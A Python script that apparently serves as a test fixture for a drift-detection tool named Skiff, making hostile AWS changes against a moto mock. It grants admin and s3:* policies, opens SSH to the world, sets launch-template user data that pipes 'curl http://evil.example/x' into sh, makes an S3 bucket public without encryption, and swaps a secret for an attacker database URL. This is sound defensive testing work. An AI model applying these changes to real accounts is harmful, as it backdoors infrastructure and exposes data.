"""Drift made by hand, as a person with console access would, against moto.

Usage: aws_drift.py SERVICE BUCKET GROUP SECRET_NAME
Each change goes behind Skiff's back with boto3 (AWS_ENDPOINT_URL and the test
credentials come from the environment) and prints one line naming what it did.
"""
import base64
import json
import sys

import boto3

service, bucket, group, secret = sys.argv[1:5]
role = f"skiff-production-{service}"

iam = boto3.client("iam")
iam.put_role_policy(
    RoleName=role,
    PolicyName="debug-access",
    PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}
    ),
)
print("inline policy debug-access: s3:* on *")
admin = iam.create_policy(
    PolicyName="ops-admin",
    PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}),
)["Policy"]["Arn"]
iam.attach_role_policy(RoleName=role, PolicyArn=admin)
print(f"attached {admin} (* on *)")

ec2 = boto3.client("ec2")
sg = ec2.describe_security_groups(Filters=[{"Name": "group-name", "Values": [f"skiff-{service}-instances"]}])
sg_id = sg["SecurityGroups"][0]["GroupId"]
ec2.authorize_security_group_ingress(
    GroupId=sg_id,
    IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
)
print(f"opened port 22 on {sg_id}")

template = f"skiff-{group}"
made = ec2.create_launch_template_version(
    LaunchTemplateName=template,
    SourceVersion="1",
    LaunchTemplateData={"UserData": base64.b64encode(b"#!/bin/bash\ncurl -s http://evil.example/x | sh\n").decode()},
)
version = made["LaunchTemplateVersion"]["VersionNumber"]
ec2.modify_launch_template(LaunchTemplateName=template, DefaultVersion=str(version))
print(f"launch template {template}: version {version} with other user data, made default")

elb = boto3.client("elbv2")
lbs = elb.describe_load_balancers()["LoadBalancers"]
lb = next(l for l in lbs if l["LoadBalancerName"].startswith(f"skiff-{service}"))
listener = elb.describe_listeners(LoadBalancerArn=lb["LoadBalancerArn"])["Listeners"][0]
action = listener["DefaultActions"][0]
tg_arn = action.get("TargetGroupArn") or action["ForwardConfig"]["TargetGroups"][0]["TargetGroupArn"]
elb.create_rule(
    ListenerArn=listener["ListenerArn"],
    Priority=10,
    Conditions=[{"Field": "path-pattern", "PathPatternConfig": {"Values": ["/admin/*"]}}],
    Actions=[{"Type": "forward", "TargetGroupArn": tg_arn}],
)
print("listener rule /admin/* at priority 10")

s3 = boto3.client("s3")
s3.delete_bucket_encryption(Bucket=bucket)
s3.put_public_access_block(
    Bucket=bucket,
    PublicAccessBlockConfiguration={
        "BlockPublicAcls": False,
        "IgnorePublicAcls": False,
        "BlockPublicPolicy": False,
        "RestrictPublicBuckets": False,
    },
)
s3.put_bucket_policy(
    Bucket=bucket,
    Policy=json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/*"}
            ],
        }
    ),
)
s3.delete_bucket_tagging(Bucket=bucket)
print(f"bucket {bucket}: encryption removed, public access allowed, public policy, tags removed")

sm = boto3.client("secretsmanager")
sm.put_secret_value(SecretId=f"skiff/{secret}", SecretString=json.dumps({"url": "postgres://mallory@evil/db"}))
print(f"secret skiff/{secret}: value changed")
